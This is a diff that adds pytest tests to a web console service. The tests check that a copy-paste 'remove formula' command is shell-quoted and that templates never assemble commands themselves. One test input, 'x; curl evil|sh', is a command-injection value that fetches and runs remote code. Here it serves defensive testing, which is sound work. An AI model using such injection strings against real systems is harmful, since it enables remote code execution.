@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+import shlex
 from html import unescape
 from typing import Any
 
@@ -10,6 +11,8 @@ import pytest
 
 from service.operate.audit import trail
 from service.operate.formulas import list_formulas
+from service.web.console.formula_pages import command_to_remove
+from service.web.console.rendering import FOLDER
 from tests.web.console.asked import form_on, submit
 
 pytestmark = pytest.mark.anyio
@@ -149,3 +152,21 @@ async def test_a_viewer_sees_formulas_and_does_nothing(
             sent = {"csrf": csrf, "id": at_work.id, "template": template, "set:every": "1"}
             assert (await viewer.post(path, data=sent)).status_code == 403
     assert len((await list_formulas(deployment)).at_work) == 1
+
+
+def test_the_command_that_ends_a_formula_is_quoted() -> None:
+    """Whoever pastes it would run what somebody else wrote."""
+    for id_ in ("7", "x; curl evil|sh"):
+        command = command_to_remove(id_)
+        assert shlex.split(command) == ["parley", "connector", "formula", "remove", id_]
+
+
+def test_no_template_puts_a_command_together() -> None:
+    """It would not be quoted; pages get their commands from the views, which do."""
+    calls = [
+        (page.name, call)
+        for page in sorted(FOLDER.glob("*.html"))
+        for call in re.findall(r"\{\{ by_command\((.*?)\) \}\}", page.read_text("utf-8"))
+    ]
+    assert len(calls) > 20
+    assert [call for call in calls if "~" in call[1]] == []
